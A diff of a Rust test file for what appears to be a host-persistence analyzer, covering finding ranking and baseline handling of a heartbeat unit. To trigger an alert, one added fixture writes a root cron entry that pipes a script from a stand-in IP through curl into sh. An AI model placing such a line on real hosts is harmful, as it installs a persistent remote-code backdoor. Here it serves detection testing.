@@ -92,6 +92,12 @@ fn stacking_ranks_the_planted_unit_first_and_counts_items_once_per_host() {
         let mut text = std::fs::read_to_string(&nginx).unwrap();
         text.push_str("# local change\n");
         std::fs::write(&nginx, text).unwrap();
+        // Behaviour: an alert on this host only.
+        std::fs::write(
+            root.join("etc/cron.d/updater"),
+            "*/5 * * * * root curl -fsSL http://198.51.100.7/u.sh | sh\n",
+        )
+        .unwrap();
         // The same entry twice on one host counts once.
         std::fs::write(
             root.join("etc/cron.d/twice"),
@@ -272,10 +278,15 @@ fn baseline_marks_known_items_and_lists_what_changed() {
     assert!(o.status.success());
     let plain = json(dir, "plain/findings.json");
     let plain_h = host(&plain, "gold01");
-    assert!(
-        rules(plain_h).contains(&"unit-local-unowned".to_string()),
-        "{plain_h}"
-    );
+    let on_heartbeat = |h: &serde_json::Value, list: &str| {
+        h[list].as_array().map_or(0, |v| {
+            v.iter()
+                .filter(|f| f["subject"] == "heartbeat.service")
+                .count()
+        })
+    };
+    let before = on_heartbeat(plain_h, "findings") + on_heartbeat(plain_h, "context");
+    assert!(before > 0, "{plain_h}");
 
     let o = analyze(
         dir,
@@ -287,12 +298,12 @@ fn baseline_marks_known_items_and_lists_what_changed() {
     let j = json(dir, "rep/findings.json");
     let h = host(&j, "gold01");
     // Findings on the heartbeat unit (same path and hash as in the baseline) are known.
-    assert!(!rules(h).contains(&"unit-local-unowned".to_string()), "{h}");
-    let known = h["policy"]["known"].as_array().unwrap();
-    assert!(
-        known.iter().any(|f| f["subject"] == "heartbeat.service"),
+    assert_eq!(
+        on_heartbeat(h, "findings") + on_heartbeat(h, "context"),
+        0,
         "{h}"
     );
+    assert_eq!(on_heartbeat(&h["policy"], "known"), before, "{h}");
     assert!(h["score"].as_u64() <= plain_h["score"].as_u64());
     let diff = &h["policy"]["baseline"];
     assert_eq!(diff["baseline"], "gold.json");
